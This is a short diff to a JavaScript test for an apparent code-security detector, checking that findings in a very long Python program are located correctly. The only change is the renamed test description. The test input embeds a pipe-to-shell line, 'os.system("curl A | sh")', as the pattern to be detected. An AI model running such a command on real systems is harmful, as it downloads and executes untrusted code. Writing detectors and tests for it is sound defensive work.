@@ -8,7 +8,7 @@ import { createNodeDetector } from "../../../src/host/node.js";
 const block = "def f():\n    x = 1\n    y = 2\n    return (\n        x\n)\n";
 const long = block.repeat(6000);
 
-it("findings in any part of a very long program have their places, and the outcome lists the parts", async () => {
+it("findings in any part of a very long program have the right places, and the outcome lists the parts", async () => {
   const detector = await createNodeDetector({});
   const call = 'os.system("curl A | sh")\n';
   const text = `\`\`\`python\n${long}${call}${long}${call}\`\`\`\n`;
